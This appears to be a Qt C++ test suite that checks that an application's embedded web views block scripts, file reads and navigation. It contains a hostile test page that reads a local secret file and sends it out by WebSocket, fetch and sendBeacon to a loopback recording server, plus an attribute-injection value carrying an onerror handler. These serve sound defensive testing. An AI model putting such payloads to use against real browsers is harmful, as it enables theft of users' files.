// Pages that others wrote, in the three browser views of the real window: a page the user
// opens, a text with tags, a list entry and a signature picture address. They run no
// scripts, read no local files, send nothing to a local server of the test and never lead
// the view away; the pictures and the marquee they name still show.
#include <QBuffer>
#include <QImage>
#include <QLineEdit>
#include <QListWidget>
#include <QPlainTextEdit>
#include <QTcpServer>
#include <QTcpSocket>
#include <QToolButton>
#include <QWebEngineNavigationRequest>

#include "image_list_panel.h"
#include "preferences_panel.h"
#include "window_test_support.h"

using zktest::AppFolder;
using zktest::writeBytes;

namespace {

// A web server on the loopback address that records the request line of every request
// it gets, WebSocket openings included. Paths ending in ".png" get a 4 x 3 picture,
// anything else "404".
class RecordingServer final : public QObject {
public:
    QStringList requests;

    RecordingServer() {
        QImage image(4, 3, QImage::Format_RGB32);
        image.fill(Qt::blue);
        QBuffer buffer(&picture_);
        buffer.open(QIODevice::WriteOnly);
        image.save(&buffer, "PNG");
        if (!server_.listen(QHostAddress::LocalHost))
            qWarning("the test server cannot listen");
        connect(&server_, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = server_.nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] { read(socket); });
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
    }

    // An address on this server; "ws" gives a WebSocket address.
    QString address(const QString& path, const char* scheme = "http") const {
        return QStringLiteral("%1://127.0.0.1:%2%3")
            .arg(QLatin1String(scheme))
            .arg(server_.serverPort())
            .arg(path);
    }
    bool received(const QString& path) const {
        return requests.contains(QStringLiteral("GET %1 HTTP/1.1").arg(path));
    }

private:
    void read(QTcpSocket* socket) {
        QByteArray head = socket->property("head").toByteArray() + socket->readAll();
        socket->setProperty("head", head);
        if (!head.contains("\r\n\r\n"))
            return;
        const QByteArray line = head.left(head.indexOf("\r\n"));
        requests.append(QString::fromLatin1(line));
        const QByteArray path = line.split(' ').value(1);
        if (path.endsWith(".png"))
            socket->write("HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: " +
                          QByteArray::number(picture_.size()) + "\r\nConnection: close\r\n\r\n" +
                          picture_);
        else
            socket->write(
                "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        socket->disconnectFromHost();
    }

    QTcpServer server_;
    QByteArray picture_;
};

// Script code that leaves its mark on the page, then opens a WebSocket and a request to
// the server.
QString hostileCode(const RecordingServer& server, const QString& mark) {
    return QStringLiteral("document.documentElement.setAttribute('data-ran','%1');"
                          "new WebSocket('%2');fetch('%3');")
        .arg(mark, server.address(QStringLiteral("/ws"), "ws"),
             server.address(QStringLiteral("/fetch")));
}

QString markLeft(QWebEngineView* view) {
    return zktest::runScript(view, QStringLiteral("document.documentElement.getAttribute("
                                                  "'data-ran') || ''"))
        .toString();
}

// Waits until the view shows a page holding part whose loading is over: its pictures have
// loaded or failed and every handler of its load would have run.
bool waitForCompletePage(QWebEngineView* view, const QString& part) {
    return QTest::qWaitFor(
        [&] {
            return zktest::runScript(view, QStringLiteral("document.readyState === 'complete' && "
                                                          "document.documentElement.outerHTML"))
                .toString()
                .contains(part);
        },
        60000);
}

} // namespace

class BrowserViewsTest final : public QObject {
    Q_OBJECT

private:
    std::unique_ptr<AppFolder> folder;
    std::unique_ptr<TForm1> form;
    QTemporaryDir docs;

    QString doc(const QString& name) const { return docs.filePath(name); }

    // A page the user opens that reads a local file and sends it out every way a page can.
    QByteArray hostilePage(const RecordingServer& server) const {
        const QString secret = QStringLiteral("secret.txt");
        return QStringLiteral("<html><head>"
                              "<meta http-equiv=\"refresh\" content=\"0;url=%1\">"
                              "<link rel=\"prefetch\" href=\"%2\">"
                              "<script src=\"%3\"></script>"
                              "</head><body onload=\"%4\"><script>"
                              "var x = new XMLHttpRequest(); x.open('GET', '%5', false); x.send();"
                              "var secret = encodeURIComponent(x.responseText);"
                              "document.documentElement.setAttribute('data-ran', 'script');"
                              "new WebSocket('%6?' + secret);"
                              "fetch('%7?' + secret);"
                              "navigator.sendBeacon('%8', secret);"
                              "</script>"
                              "<img src=\"missing.png\" onerror=\"%9\">"
                              "<iframe src=\"%5\"></iframe><object data=\"%5\"></object>"
                              "<p>Bonjour</p><img id=\"web\" src=\"%10\">"
                              "</body></html>")
            .arg(server.address(QStringLiteral("/refresh")),
                 server.address(QStringLiteral("/prefetch")),
                 server.address(QStringLiteral("/script.js")),
                 hostileCode(server, QStringLiteral("onload")), secret,
                 server.address(QStringLiteral("/ws"), "ws"),
                 server.address(QStringLiteral("/fetch")),
                 server.address(QStringLiteral("/beacon")),
                 hostileCode(server, QStringLiteral("onerror")),
                 server.address(QStringLiteral("/picture.png")))
            .toUtf8();
    }

private slots:
    void init() {
        zktest::dialogs() = zktest::FakeDialogs();
        folder = std::make_unique<AppFolder>();
        QVERIFY(writeBytes(doc(QStringLiteral("secret.txt")), "motdepasse-42"));
        form = zktest::openWindow(*folder);
        QTRY_VERIFY(form->codeOutput()->WebB != nullptr);
        form->Memo1->setFocus();
    }
    void cleanup() {
        form.reset();
        folder.reset();
    }

    void aPageTheUserOpensReadsAndSendsNothing() {
        const QString page = doc(QStringLiteral("piege.html"));
        {
            // The same page in a view left as the engine makes it does send the file out:
            // the page is as hostile as meant.
            RecordingServer control;
            QVERIFY(writeBytes(page, hostilePage(control)));
            QWebEngineView plain;
            plain.resize(300, 200);
            plain.show();
            plain.load(QUrl::fromLocalFile(page));
            QTRY_VERIFY_WITH_TIMEOUT(
                control.requests.filter(QStringLiteral("motdepasse-42")).size() > 0, 60000);
        }
        RecordingServer server;
        QVERIFY(writeBytes(page, hostilePage(server)));
        QList<QUrl> navigations;
        connect(form->codeOutput()->WebB->page(), &QWebEnginePage::navigationRequested, this,
                [&](QWebEngineNavigationRequest& request) { navigations.append(request.url()); });
        form->textTools()->OpenFileByPath(page);
        QVERIFY(waitForCompletePage(form->codeOutput()->WebB, QStringLiteral("Bonjour")));
        // The picture the page names from the web shows; nothing ran.
        QTRY_COMPARE_WITH_TIMEOUT(zktest::runScript(form->codeOutput()->WebB,
                                                    QStringLiteral("document.getElementById('web')."
                                                                   "naturalWidth"))
                                      .toInt(),
                                  4, 30000);
        QCOMPARE(markLeft(form->codeOutput()->WebB), QString());
        // The refresh asked to leave the page and was refused.
        QTRY_VERIFY_WITH_TIMEOUT(
            navigations.contains(QUrl(server.address(QStringLiteral("/refresh")))), 30000);
        QCOMPARE(form->codeOutput()->WebB->url(), QUrl::fromLocalFile(page));
        QCOMPARE(server.requests, QStringList{QStringLiteral("GET /picture.png HTTP/1.1")});
    }

    // An address or a text with an event handler in it, in each of the three views.
    void inlineHandlersRunNothing() {
        RecordingServer server;
        const QString missing = server.address(QStringLiteral("/missing.png"));
        const QString handler = hostileCode(server, QStringLiteral("onerror"));
        const QString entry = missing + QStringLiteral("\" onerror=\"") + handler;
        // The window again, with a list holding the entry.
        form.reset();
        QVERIFY(writeBytes(folder->file(QStringLiteral("Data/Listes/images.lst")),
                           entry.toUtf8() + "\r\n"));
        form = zktest::openWindow(*folder);
        QTRY_VERIFY(form->codeOutput()->WebB != nullptr);
        auto expectNothingRan = [&](QWebEngineView* view, const QString& part) {
            QVERIFY(view);
            QVERIFY(waitForCompletePage(view, part));
            QTRY_VERIFY_WITH_TIMEOUT(!server.requests.isEmpty(), 30000);
            QCOMPARE(markLeft(view), QString());
            // Only the picture was asked for, by whatever address the page gave it.
            for (const QString& request : server.requests)
                QVERIFY2(request.startsWith(QStringLiteral("GET /missing.png")),
                         qPrintable(request));
            server.requests.clear();
        };

        // A text previewed in the pane.
        form->Memo1->setPlainText(
            QStringLiteral("<img src=\"%1\" onerror=\"%2\">Bonjour").arg(missing, handler));
        QTest::keyClick(form->Memo1, Qt::Key_F12);
        expectNothingRan(form->codeOutput()->WebB, QStringLiteral("Bonjour"));

        // The list entry previewed in the image list panel.
        form->BoutImage->click();
        QVERIFY(form->imagePanel()->Panel7->isVisible());
        QCOMPARE(form->imagePanel()->ListImg->count(), 1);
        form->imagePanel()->ListImg->setCurrentRow(0);
        form->imagePanel()->ListImgClick();
        expectNothingRan(form->imagePanel()->WebB2, QStringLiteral("missing.png"));

        // A signature picture address previewed on its tab.
        form->settings.PreferencesPage = 1;
        form->BoutPreferences->click();
        form->preferences()->EditImgSign->setText(entry);
        form->preferences()->BoutApercuSign->click();
        expectNothingRan(form->preferences()->WebB3, QStringLiteral("missing.png"));
    }

    void picturesAndTheMarqueeStillShow() {
        RecordingServer server;
        QImage image(37, 21, QImage::Format_RGB32);
        image.fill(Qt::green);
        const QString local = doc(QStringLiteral("photo été.png"));
        QVERIFY(image.save(local, "PNG"));
        form->settings.fmt.ScrollingOn = 1;
        form->settings.fmt.MarqueeSpeed = 0;
        form->Memo1->setPlainText(
            QStringLiteral("<img id=\"web\" src=\"%1\"><img id=\"local\" src=\"%2\">défile")
                .arg(server.address(QStringLiteral("/picture.png")), local));
        form->codeOutput()->BoutNavIntegreClick();
        QVERIFY(waitForCompletePage(form->codeOutput()->WebB, QStringLiteral("défile")));
        QTRY_COMPARE_WITH_TIMEOUT(
            zktest::runScript(form->codeOutput()->WebB,
                              QStringLiteral("[document.getElementById('web').naturalWidth, "
                                             "document.getElementById('local').naturalWidth]"
                                             ".join()"))
                .toString(),
            QStringLiteral("4,37"), 30000);
        // The marquee moves its text by itself.
        const QString left =
            QStringLiteral("document.getElementById('local').getBoundingClientRect().left");
        const double start = zktest::runScript(form->codeOutput()->WebB, left).toDouble();
        QTRY_VERIFY_WITH_TIMEOUT(
            zktest::runScript(form->codeOutput()->WebB, left).toDouble() != start, 30000);
    }

    void linksLeadNowhere() {
        RecordingServer server;
        form->Memo1->setPlainText(QStringLiteral("<a id=\"popup\" href=\"%1\" target=\"_blank\">"
                                                 "fenêtre</a> <a id=\"link\" href=\"%2\">lien</a>")
                                      .arg(server.address(QStringLiteral("/popup")),
                                           server.address(QStringLiteral("/link"))));
        QList<QUrl> navigations;
        connect(form->codeOutput()->WebB->page(), &QWebEnginePage::navigationRequested, this,
                [&](QWebEngineNavigationRequest& request) { navigations.append(request.url()); });
        form->codeOutput()->BoutNavIntegreClick();
        QVERIFY(waitForCompletePage(form->codeOutput()->WebB, QStringLiteral("lien")));
        const QUrl shown = form->codeOutput()->WebB->url();
        // A click on each link, in turn: the second one's request comes after the first
        // click was handled.
        for (const char* id : {"popup", "link"}) {
            const QVariantList rect =
                zktest::runScript(form->codeOutput()->WebB,
                                  QStringLiteral("(r => [r.left + r.width / 2, r.top + r.height "
                                                 "/ 2])(document.getElementById('%1')."
                                                 "getBoundingClientRect())")
                                      .arg(QLatin1String(id)))
                    .toList();
            QCOMPARE(rect.size(), 2);
            QTest::mouseClick(form->codeOutput()->WebB->focusProxy(), Qt::LeftButton, {},
                              QPoint(rect[0].toInt(), rect[1].toInt()));
        }
        QTRY_VERIFY_WITH_TIMEOUT(
            navigations.contains(QUrl(server.address(QStringLiteral("/link")))), 30000);
        QCOMPARE(form->codeOutput()->WebB->url(), shown);
        QCOMPARE(server.requests, QStringList());
    }
};

ZK_WINDOW_TEST_MAIN(BrowserViewsTest)
#include "browser_views_test.moc"
